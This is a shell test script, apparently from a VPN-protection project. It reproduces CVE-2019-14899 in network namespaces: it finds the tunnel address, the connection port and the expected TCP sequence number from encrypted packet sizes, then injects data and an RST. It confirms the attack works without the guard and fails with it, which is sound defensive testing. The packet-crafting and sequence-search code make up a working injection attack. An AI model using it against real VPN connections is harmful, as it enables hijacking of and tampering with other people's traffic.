#!/bin/sh
# SPDX-License-Identifier: GPL-2.0
# CVE-2019-14899 as it was published: a neighbour finds out which address the tunnel has,
# then which connection goes through it and which byte that waits for, all by what the client
# sends encrypted; puts data of its own into that connection, and ends it. Without the guard all
# of it works, with it nothing is seen, and nothing happens even to who knows the numbers.
# The reverse-path filter is loose, as systemd had set it.

. "$(dirname "$0")/../lib.sh"
. "$top/tests/attacks.sh"

# what is sent later does not overtake what waits for the other processor
taskset -p 1 $$ >/dev/null
need_module
topo_up
sysctl_set "$client" 2 'ipv4/conf/*/rp_filter'
client_mac=$(mac "$client" lan)

# The kernel answers a connection's wrong packets twice in a second, for which the neighbour
# would have to wait each time.
sysctl_set "$client" 0 ipv4/tcp_invalid_ratelimit

server_pid=''
for address in TCP4-LISTEN:80,bind=198.51.100.1 TCP6-LISTEN:80,bind=[2001:db8:100::1]; do
	ip netns exec "$server" socat $address,fork,reuseaddr EXEC:cat &
	server_pid="$server_pid $!"
done
client_pid='' spy_pid=''

cleanup() {
	# shellcheck disable=SC2086
	kill $server_pid $client_pid $spy_pid
	wait
} 2>/dev/null

# What the neighbour, and whoever is on the way, can see. Handshakes and keepalives of
# WireGuard are not about what is in the tunnel; they have 176, 120 and 60 bytes. What is
# larger than a kilobyte is of probe().
watch_lan() {
	on "$neighbour" nft -f - <<-EOF
		table inet spy {
			set answers { typeof ip saddr . tcp flags; flags dynamic; }
			set answers6 { typeof ip6 saddr . tcp flags; flags dynamic; }
			chain in {
				type filter hook prerouting priority raw
				ip saddr 10.2.0.0/24 meta l4proto tcp update @answers { ip saddr . tcp flags } drop
				ip6 saddr fd02::/64 meta l4proto tcp update @answers6 { ip6 saddr . tcp flags } drop
			}
		}
	EOF
	on "$router" nft -f - <<-EOF
		table inet spy {
			set sizes { typeof meta length; flags dynamic; }
			chain in {
				type filter hook prerouting priority raw
				iifname lan udp dport 51820 meta length != { 60, 120, 176 } meta length < 1000 update @sizes { meta length }
			}
		}
	EOF
}

# spied NS SET: the elements since the last time
spied() {
	on "$1" nft -n list set inet spy "$2" >"$tmp/set" || untried list
	tr -d '\n\t' <"$tmp/set" | sed 's/.*elements = {\([^}]*\)}.*/\1/; t; d' | tr -d ' '
	on "$1" nft flush set inet spy "$2" || untried flush
}

# untried WHAT: nothing can be said of what was to be seen then
untried() {
	echo "$1" >>"$tmp/untried"
}
: >"$tmp/untried"

# probe LINE...: the neighbour sends them; the client has answered when this returns, also
# through the tunnel, where a packet of its own comes after the answers
probe() {
	printf '%s\n' "$@" | on "$neighbour" send-packets lan "$client_mac" >/dev/null || untried send
	wait_for 60 ping_through "$neighbour" 192.168.44.2 || untried ping
	wait_for 60 on "$client" ping -n -q -c 1 -W 8 -s 1200 198.51.100.1 || untried tunnel
}

connected() {
	[ -d "/proc/$client_pid" ] && on "$client" ss -Htn state established | grep -qF "$here:40000"
}

disconnected() {
	! connected
}

# connect: the client's connection, which says nothing any more; it waits for the byte $next, and
# has sent all before $sent. These are so many that whoever has the last but 64 KB for the last
# may still be the server (RFC 5961, 5.2).
connect() {
	# not by "on", so that $! is the program and not a shell around it
	ip netns exec "$server" tcpdump -Z root -l -n -S -i wg0 'src port 40000' \
		>"$tmp/tcpdump" 2>"$tmp/tcpdump.log" &
	spy_pid=$!
	wait_for 20 grep -q listening "$tmp/tcpdump.log"
	rm -f "$tmp/input"
	mkfifo "$tmp/input"
	ip netns exec "$client" socat "TCP$family:$there:80,bind=$here:40000,reuseaddr" - \
		<"$tmp/input" >"$tmp/heard" 2>&1 &
	client_pid=$!
	exec 3>"$tmp/input"
	head -c 100000 /dev/zero | tr '\0' . >&3
	echo first >&3
	wait_for 10 grep -q first "$tmp/heard"
	wait_for 10 connected
	wait_for 20 all_acknowledged
	kill $spy_pid
	next=$(acknowledged | tail -n 1)
	sent=$(sed -n 's/.* seq [0-9]*:\([0-9]*\),.*/\1/p' "$tmp/tcpdump" | tail -n 1)
	[ -n "$sent" ]
}

acknowledged() {
	sed -n 's/.* ack \([0-9]*\),.*/\1/p' "$tmp/tcpdump"
}

# all_acknowledged: is tcpdump's last packet of the client the one for the last byte
all_acknowledged() {
	[ $((($(acknowledged | tail -n 1) - $(acknowledged | head -n 1)) & 0xffffffff)) -eq 100006 ]
}

# goes_on WORD: nobody reads what is said to a connection that has ended
goes_on() {
	connected && echo "$1" >&3 && wait_for 10 grep -q "$1" "$tmp/heard"
}

disconnect() {
	exec 3>&-
	kill $client_pid 2>/dev/null || :
	wait $client_pid 2>/dev/null || :
}

# from_server TCP: a packet that claims to be the server's
from_server() {
	"ip$family" "$peer" "$own" "$1"
}

candidates() {
	for n in 1 2 3 4; do
		case $family in
		4) ip4 192.168.44.3 10.2.0.$n "$(tcp 5000 5001 1 1 12)" ;;
		6) ip6 fd44::3 fd02::$n "$(tcp 5000 5001 1 1 12)" ;;
		esac
	done
}

# sizes_by_port: of what the client sends encrypted when somebody claims to be the
# server and wants a new connection from each of these ports
sizes_by_port() {
	for port in 39999 40000 40001; do
		probe "$(from_server "$(tcp 80 $port 1 0 02)")"
		echo "$port:$(spied "$router" sizes)"
	done
}

# A number is looked for in a sixteenth of all that there are, as the other fifteen would take
# the same again; and in steps of less than the 64 KB that a connection is ready to receive.
step=32768 steps=8192

# sixteenth NUMBER: where the one begins that has it in its middle, or near that
sixteenth() {
	echo $(($1 - step * steps / 2 - 1000))
}

# numbered TCP FROM COUNT: for each of so many steps the packet, whose TCP has %08x for a number
numbered() {
	_packet=$(from_server "$1")
	_n=0
	while [ $_n -lt "$3" ]; do
		# shellcheck disable=SC2059
		printf "$_packet\n" $((($2 + step * _n) & 0xffffffff))
		_n=$((_n + 1))
	done
}

# expected FROM COUNT: is one of these numbers, at which somebody claims to be the server and to
# have lost the connection, of a byte that the client may get yet? Then it asks whether that is
# so (RFC 5961, 3.2), and if it is the very next it believes it.
expected() {
	probe "$(numbered "06:00509c40.%08x.00000000.50040400.00000000" "$1" "$2")"
	[ "$(spied "$router" sizes)" != "" ]
}

# search: sets $found to a number shortly before the next byte of the connection
search() {
	found=$(sixteenth "$next")
	_count=$steps
	expected "$found" $_count || return 1
	while [ $_count -gt 1 ]; do
		_count=$((_count / 2))
		expected "$found" $_count || found=$((found + step * _count))
	done
	# not those of the step before, but this one
	_above=$found
	found=$((found - step))
	while [ $((_above - found)) -gt 16 ]; do
		_middle=$(((_above + found) / 2))
		if expected $_middle 1; then
			_above=$_middle
		else
			found=$_middle
		fi
	done
}

# data_at NUMBER FROM COUNT: 32 bytes for the connection, of which the last 16 or more are new to
# it, in packets that acknowledge one number after the other
data_at() {
	numbered "06:00509c40.$(printf %08x $(($1 & 0xffffffff))).%08x.50180400.00000000$text" "$2" "$3"
}

# reset_at NUMBER
reset_at() {
	from_server "$(tcp 80 40000 $(($1 & 0xffffffff)) 0 04)"
}

# through_tunnel LINE...: the server itself sends such packets
through_tunnel() {
	printf '%s\n' "$@" | on "$server" send-packets wg0 00:00:00:00:00:00 >/dev/null
}

injected() {
	grep -q 'not by server' "$tmp/heard"
}
text=$(printf '................not by server...' | od -An -v -tx1 | tr -d ' \n')

watch_lan
for family in 4 6; do
	case $family in
	4) own=10.2.0.2 peer=198.51.100.1 here=$own there=$peer answers=answers rst_size=108 ack_size=124 ;;
	6) own=fd02::2 peer=2001:db8:100::1 here=[$own] there=[$peer] answers=answers6 rst_size=124 ack_size=140 ;;
	esac
	for mode in open kmod nft; do
		guarded_up
		ping_through "$client" $peer >/dev/null
		connect
		what="$mode, IPv$family:"

		spied "$neighbour" $answers >/dev/null
		probe "$(candidates)"
		seen=$(spied "$neighbour" $answers)
		verdict "which address of IPv$family does the tunnel have" "${seen:-nothing to see}"
		spied "$router" sizes >/dev/null
		sizes=$(sizes_by_port)
		verdict "which port does a connection of IPv$family have, by the size of answers" "$(echo $sizes)"
		case $mode in
		open)
			is "$seen" "$own.0x4" "$what of four addresses the tunnel's one answers, with RST"
			is "$sizes" "39999:$rst_size
40000:$ack_size
40001:$rst_size" "$what the connection's port shows by the size of the answer"
			check "$what so does which byte it waits for" search
			is $((next - found >= 0 && next - found <= 16)) 1 "$what to within 16"
			byte="known to within 16"
			;;
		*)
			is "$seen" "" "$what no address answers"
			is "$sizes" "39999:
40000:
40001:" "$what no port shows"
			check_fails "$what nor which byte it waits for" search
			found=$((next - 16))
			byte="nothing to see"
			;;
		esac
		verdict "which byte does a connection of IPv$family wait for" "$byte"
		check "$what the connection is there" connected

		probe "$(data_at $found "$(sixteenth "$sent")" $steps)"
		if [ $mode = open ]; then
			check "$what the neighbour's data is taken for the server's" wait_for 10 injected
			end=$((found + 32))
			check "$what the connection is still there" connected
		else
			check "$what the connection goes on after the neighbour's data" goes_on second
			check_fails "$what which was not taken for the server's" injected
			end=$((next + 7))
		fi
		injected && data="read" || data="not read"
		verdict "data for a connection of IPv$family" "$data"

		probe "$(reset_at $end)"
		connected && rst="it goes on" || rst="it ends"
		verdict "RST for a connection of IPv$family" "$rst"
		if [ $mode = open ]; then
			check_fails "$what the neighbour's RST ends the connection" connected
		else
			check "$what the neighbour's RST does not end the connection" connected
			check "$what and it goes on" goes_on third
			end=$((end + 6))
			# the numbers were right
			through_tunnel "$(data_at $((end - 16)) "$sent" 1)"
			check "$what the same data is taken for the server's through the tunnel" \
				wait_for 10 injected
			through_tunnel "$(reset_at $((end + 16)))"
			check "$what and the same RST ends the connection" wait_for 20 disconnected
		fi
		is "$(cat "$tmp/untried")" "" "$what all was tried"
		disconnect
		client_down
	done
done

proof "the probes of CVE-2019-14899"
done_testing
